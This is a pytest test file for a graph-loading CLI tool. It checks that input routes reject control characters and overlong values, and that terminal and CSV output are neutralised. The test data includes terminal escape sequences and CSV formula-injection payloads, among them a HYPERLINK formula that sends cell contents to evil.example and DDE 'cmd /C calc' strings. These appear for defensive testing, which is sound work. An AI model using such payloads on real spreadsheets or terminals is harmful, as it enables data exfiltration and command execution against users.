"""One gate for text into the graph, whatever the route, and output that cannot forge: terminal text
without control characters, CSV cells a spreadsheet will not run, no value echoed whole."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from accountable.graph import open_store
from accountable.loaders import facts

pytestmark = pytest.mark.robustness

ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
HEAD = ("sources:\n  - {id: t-src, title: A test article, publisher: Test, published: 2020-05, source_kind: news}\n"
        "entities:\n")


def fingerprint(db: Path) -> str:
    with open_store("ladybug", db, read_only=True) as s:
        return s.fingerprint()


def test_the_register_csv_route_refuses_control_characters(cli, loaded_path, tmp_path):
    """Finding 6: "Control characters reach the terminal by every route but JSON Lines: YAML escapes
    (`"\\e]0;pwned\\a\\e[2J"`), the register CSV, `sync`. NUL is accepted"."""
    before = fingerprint(loaded_path)
    p = tmp_path / "register_2026-07.csv"
    p.write_text("la_code,local_authority_ons_name,also_known_as,la_code_new,region_name\n"
                 f"998,Evilshire{ESCAPES},,E06000998,South West\n", encoding="utf-8")
    r = cli("load-register", str(p))
    assert r.exit_code == 2, r.output
    assert "holds a control character (#x001b), which fact files do not allow; delete it" in r.stderr, r.stderr
    assert "\x1b" not in r.output and "\x07" not in r.output
    assert fingerprint(loaded_path) == before


@pytest.mark.parametrize("name, problem", [
    ("Ann\x00Example", "holds a control character (#x0000)"),
    ("Ann Example\n  [1] The Times, 2020", "holds a line break, but this field is one line"),
    ("Ann " + ESCAPES, "holds a control character (#x001b)"),
    ("x" * 1_000_000, "is 1000000 characters long; the limit is 300"),
])
def test_every_route_passes_the_same_gate(tmp_path, name, problem):
    """Finding 6 and 8: "A newline in a title or name prints lines that look like real sources or
    flags"; "No length limits but on quotes: a 1 MB name loads" (YAML and JSON Lines alike)."""
    yml = tmp_path / "f.yaml"
    yml.write_text(HEAD + "  - kind: Person\n    id: ann-example\n    name: " + json.dumps(name) + "\n    sources: [t-src]\n")
    jl = tmp_path / "f.jsonl"
    jl.write_text(json.dumps({"type": "source", "id": "t-src", "title": "A test article", "publisher": "Test",
                              "published": "2020-05", "source_kind": "news"}) + "\n"
                  + json.dumps({"type": "entity", "kind": "Person", "id": "ann-example", "name": name, "sources": ["t-src"]}) + "\n")
    for f in (yml, jl):
        with pytest.raises(facts.InvalidInput) as e:
            facts.read_files([f])
        (p,) = e.value.problems
        assert p.field == "name" and problem in p.message, str(p)
        assert len(str(p)) < 400


def test_paragraph_fields_keep_their_line_breaks(tmp_path):
    """Finding 6: newline only where the field is multi-line (notes, quotes)."""
    f = tmp_path / "ok.yaml"
    f.write_text(HEAD + "  - {kind: Person, id: ann-example, name: Ann Example, sources: [t-src]}\n"
                 "  - {kind: Council, id: testshire, name: Testshire County Council, la_code: '999'}\n"
                 "relationships:\n  - kind: HOLDS\n    from: ann-example\n    to: testshire/dcs\n    start: 2020-05\n"
                 "    capacity: interim\n    note: \"first line\\nsecond line\"\n"
                 "    evidence: [{source: t-src, quote: \"Ann Example\\nis the interim DCS\"}]\n")
    bundle = facts.read_files([f])
    (rel,) = [r for r, _ in bundle.relationships.values() if r.kind == "HOLDS"]
    assert rel.note == "first line\nsecond line"


def test_terminal_output_shows_no_control_characters_a_graph_holds(store, db_path, monkeypatch):
    """Finding 6: terminal output escapes what could still harm (a graph written before the gate, or by hand)."""
    from typer.testing import CliRunner

    from accountable.cli import app

    from accountable.loaders.bundled import load_defaults

    load_defaults(store)
    # a graph written before the gate, or by hand: the name set in the engine directly
    store.execute_raw("MATCH (c:Council {id: 'somerset'}) SET c.name = $name", {"name": "Somerset" + ESCAPES + "\u202e"})
    store.close()
    monkeypatch.setenv("ACCOUNTABLE_DB", str(db_path))
    runner = CliRunner()
    for args in (["who", "somerset", "--on", "2014-11-15"], ["councils", "-r", "south west"], ["who", "somerset", "-f", "json"],
                 ["history", "somerset"]):
        r = runner.invoke(app, args, catch_exceptions=False)
        assert r.exit_code == 0, r.output
        for bad in ("\x1b", "\x07", "\u202e"):
            assert bad not in r.output, (args, r.output[:300])
    assert "\\u001b" in runner.invoke(app, ["who", "somerset", "-f", "json"]).stdout


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "\tTabbed"])
def test_csv_cells_a_spreadsheet_would_run_are_quoted(cli, tmp_path, name):
    """Finding 7: "CSV output does not neutralise cells a spreadsheet runs (`=HYPERLINK(...)`, `+cmd|...`, `@`, `-`)"."""
    f = tmp_path / "evil.yaml"
    f.write_text(HEAD + f"  - {{kind: Council, id: evilshire, name: {json.dumps(name)}, la_code: '998', region: South West}}\n")
    r = cli("load", str(f))
    assert r.exit_code == 0, r.output
    for args in (["councils", "-r", "south west", "-f", "csv"], ["who", "evilshire", "-f", "csv"],
                 ["query", "find_council", "-p", "q=evilshire", "-f", "csv"]):
        r = cli(*args)
        assert r.exit_code == 0, r.output
        cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
        assert "'" + name in cells, (args, r.stdout[:500])
        assert name not in cells
    rows = list(csv.DictReader(io.StringIO(cli("query", "find_council", "-p", "q=somerset", "-f", "csv").stdout)))
    assert rows[0]["la_code"] == "933"  # ordinary cells are left alone


def test_a_long_argument_is_not_echoed_whole(cli):
    """Finding 8: "a 120 KB argument is echoed whole in an error"."""
    big = "x" * 120_000
    for args in (["who", big], ["query", "find_council", "-p", f"{big}=1"], ["gaps", "--on", big], ["churn", "--region", big]):
        r = cli(*args)
        assert r.exit_code == 2, args
        assert len(r.stderr) < 2500 and "…" in r.stderr, (args[0], len(r.stderr))
